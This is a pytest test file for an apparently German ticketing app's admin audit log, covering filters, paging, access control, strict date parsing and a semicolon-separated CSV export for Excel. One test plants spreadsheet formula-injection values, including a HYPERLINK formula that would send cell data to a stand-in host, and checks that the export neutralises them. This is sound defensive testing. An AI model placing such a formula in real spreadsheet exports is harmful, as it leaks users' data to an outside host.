"""Issue 13, the administration's audit log: filtered by action, actor, ticket and days (GET parameters, so a view
can be bookmarked), paged, and exported as CSV for German Excel (UTF-8 with BOM, semicolons, no formula runs)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from bs4 import BeautifulSoup

from assistant import audit
from assistant.web.rendering import today
from assistant.web.routes.audit import cell
from tests.harness import QUESTION, Kontor, logged_in


def _two_tickets(kontor: Kontor) -> tuple[int, int]:
    first = kontor.drafted_ticket()
    second = kontor.drafted_ticket({**QUESTION, "subject": "Rechnung"})
    assert kontor.call("POST", f"/api/drafts/{first['draft']['id']}/approve").status_code == 200
    return first["id"], second["id"]


def _rows(response: object) -> list[list[str]]:
    body = response.content  # type: ignore[attr-defined]
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_log_filters_by_action_actor_ticket_and_day(lite: Kontor, monkeypatch: pytest.MonkeyPatch) -> None:
    first, second = _two_tickets(lite)
    by_ticket = lite.call("GET", f"/api/audit?ticket_id={first}", "admin").json()
    assert by_ticket and {e["ticket_id"] for e in by_ticket} == {first}
    approved = lite.call("GET", "/api/audit?action=approved", "admin").json()
    assert [(e["action"], e["ticket_id"], e["actor"]) for e in approved] == [("approved", first, "anna")]
    by_system = lite.call("GET", "/api/audit?actor=system", "admin").json()
    assert {e["action"] for e in by_system} == {"drafted"} and len(by_system) == 2
    both = lite.call("GET", f"/api/audit?actor=anna&ticket_id={second}", "admin").json()
    assert {e["action"] for e in both} == {"received"}

    past = datetime.now(UTC) - timedelta(days=10)
    monkeypatch.setattr("assistant.audit.utcnow", lambda: past)
    with lite.services.database.session() as session:  # an entry of ten days ago
        audit.record(session, "eva", "document_deleted", source="alt.md")
    monkeypatch.undo()
    day = (today() - timedelta(days=10)).isoformat()
    old = lite.call("GET", f"/api/audit?since={day}&until={day}", "admin").json()
    assert [(e["action"], e["detail"]) for e in old] == [("document_deleted", {"source": "alt.md"})]
    assert lite.call("GET", f"/api/audit?until={day}", "admin").json() == old
    recent = lite.call("GET", f"/api/audit?since={today().isoformat()}", "admin").json()
    assert len(recent) == len(lite.call("GET", "/api/audit", "admin").json()) - 1
    before = (today() - timedelta(days=11)).isoformat()
    assert lite.call("GET", f"/api/audit?since={before}&until={before}", "admin").json() == []
    assert lite.call("GET", "/api/audit?since=gestern", "admin").status_code == 422


def test_the_page_filters_with_labelled_fields_a_bookmark_keeps_and_pages(lite: Kontor) -> None:
    first, _ = _two_tickets(lite)
    with lite.services.database.session() as session:
        for n in range(60):
            audit.record(session, "system", "index_rebuilt", embedder=f"e{n}")
    admin = logged_in(lite, "adam")
    page = admin.get(f"/verwaltung/protokoll?action=approved&actor=anna&ticket_id={first}&since=&until=")
    assert page.status_code == 200
    html = BeautifulSoup(page.text, "html.parser")
    form = html.select_one("form.audit-filters")
    assert form is not None and form["method"] == "get"
    for name in ("action", "actor", "ticket_id", "since", "until"):
        field = form.select_one(f"[name={name}]")
        assert field is not None and html.select_one(f"label[for={field['id']}]") is not None, name
    assert form.select_one("#audit-action option[selected]")["value"] == "approved"  # type: ignore[index]
    assert form.select_one("#audit-ticket")["value"] == str(first)  # type: ignore[index]
    rows = html.select("#audit-entries tbody tr")
    assert len(rows) == 1 and "freigegeben" in rows[0].text and f"#{first}" in rows[0].text
    assert "1 Eintrag" in html.select_one("#audit-count").text  # type: ignore[union-attr]
    export = html.select_one("#audit-export")["href"]  # type: ignore[index]
    assert export == f"/api/audit.csv?action=approved&actor=anna&ticket_id={first}"  # only the chosen filters
    typed = BeautifulSoup(admin.get(f"/verwaltung/protokoll?ticket_id=%23{first}").text, "html.parser")
    assert typed.select_one("#audit-ticket")["value"] == f"#{first}"  # type: ignore[index]  # as typed, and …
    export = typed.select_one("#audit-export")["href"]  # type: ignore[index]
    assert export == f"/api/audit.csv?ticket_id={first}"  # … as the export reads it (it refused "#42" with a 422)
    assert admin.get(export).status_code == 200

    everything = BeautifulSoup(admin.get("/verwaltung/protokoll").text, "html.parser")
    assert len(everything.select("#audit-entries tbody tr")) == 50
    older = everything.select_one("a[rel=next]")["href"]  # type: ignore[index]
    assert older == "/verwaltung/protokoll?seite=2"
    second_page = BeautifulSoup(admin.get(older).text, "html.parser")
    assert "Seite 2 von 2" in second_page.select_one("#audit-count").text  # type: ignore[union-attr]
    assert not re.search(r"\d{4}-\d\d-\d\dT", second_page.text)  # German times only
    filtered = BeautifulSoup(admin.get("/verwaltung/protokoll?action=index_rebuilt&seite=2").text, "html.parser")
    assert len(filtered.select("#audit-entries tbody tr")) == 10
    assert filtered.select_one("a[rel=prev]")["href"] == "/verwaltung/protokoll?action=index_rebuilt&seite=1"  # type: ignore[index]

    assert admin.get("/verwaltung/protokoll?since=31.12.2026").status_code == 422  # said in German on the page
    assert "kein Datum" in admin.get("/verwaltung/protokoll?since=31.12.2026").text


def test_the_csv_is_for_german_excel_with_the_same_filters(lite: Kontor) -> None:
    first, _ = _two_tickets(lite)
    response = lite.call("GET", f"/api/audit.csv?ticket_id={first}", "admin")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == f'attachment; filename="kontor-audit-{today():%Y-%m-%d}.csv"'
    rows = _rows(response)
    head, entries = rows[0], rows[1:]
    assert head[:6] == ["Nr.", "Zeitpunkt", "Person", "Aktion", "Kennung der Aktion", "Ticket"]
    listed = lite.call("GET", f"/api/audit?ticket_id={first}", "admin").json()
    assert [int(r[0]) for r in entries] == [e["id"] for e in listed]  # the same entries, newest first
    assert {r[5] for r in entries} == {str(first)}
    approved = next(r for r in entries if r[4] == "approved")
    assert approved[3] == "freigegeben" and approved[2] == "anna"
    assert re.fullmatch(r"\d\d\.\d\d\.\d{4} \d\d:\d\d:\d\d", approved[1])  # German, as Excel reads a date
    assert "Ticket eingegangen" in response.content.decode("utf-8-sig")  # German names, umlauts intact

    only = _rows(lite.call("GET", "/api/audit.csv?action=drafted&actor=system", "admin"))
    assert len(only) == 3 and {r[4] for r in only[1:]} == {"drafted"}


def test_a_cell_that_starts_like_a_formula_stays_text(lite: Kontor) -> None:
    with lite.services.database.session() as session:
        audit.record(session, '=HYPERLINK("http://evil.example/?x="&A1;"Hier klicken")', "document_deleted",
                     prompt_version="@SUM(A1:A9)", sources=["-2+3", "b.md"], source="+49 30 123")
    [row] = _rows(lite.call("GET", "/api/audit.csv?action=document_deleted", "admin"))[1:]
    assert row[2] == '\'=HYPERLINK("http://evil.example/?x="&A1;"Hier klicken")'  # the ; stays inside the cell
    assert row[7] == "'@SUM(A1:A9)" and row[10] == "'-2+3, b.md"
    assert row[11] == '{"source": "+49 30 123"}'  # JSON starts with a brace: nothing to guard
    assert [cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", "", None, 42)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", "", "", "42"]


@pytest.mark.parametrize("role", ["agent", "expert"])
def test_only_the_administration_reads_the_log(lite: Kontor, role: str) -> None:
    assert lite.call("GET", "/api/audit.csv", role).status_code == 403
    assert lite.call("GET", "/api/audit", role).status_code == 403
    name = {"agent": "anna", "expert": "eva"}[role]
    page = logged_in(lite, name).get("/verwaltung/protokoll", headers={"Accept": "text/html"})
    assert page.status_code == 403 and "der Administration vorbehalten" in page.text
    assert lite.call("GET", "/api/audit.csv", "").status_code == 401


def test_a_day_is_only_taken_as_the_spec_writes_it(lite: Kontor) -> None:
    """pydantic's lax mode read "1.17e-38" as a Unix time (1970-01-01) although the spec says a day: the fuzzer
    found it by chance (a CI run failed on it). Now a clear 422; a real day still filters."""
    for bad in ["1.1754943508222875e-38", "0", "05.12.2026", "2026-1-5"]:
        refused = lite.call("GET", f"/api/audit?until={bad}", "admin")
        assert refused.status_code == 422, bad
        assert lite.call("GET", f"/api/audit.csv?since={bad}", "admin").status_code == 422
    assert lite.call("GET", f"/api/audit?since={today().isoformat()}", "admin").status_code == 200
    assert lite.call("GET", "/api/dashboard?plots=0", "expert").status_code == 422  # "0" is no boolean in the spec
    assert lite.call("GET", "/api/dashboard?plots=true", "expert").status_code == 200
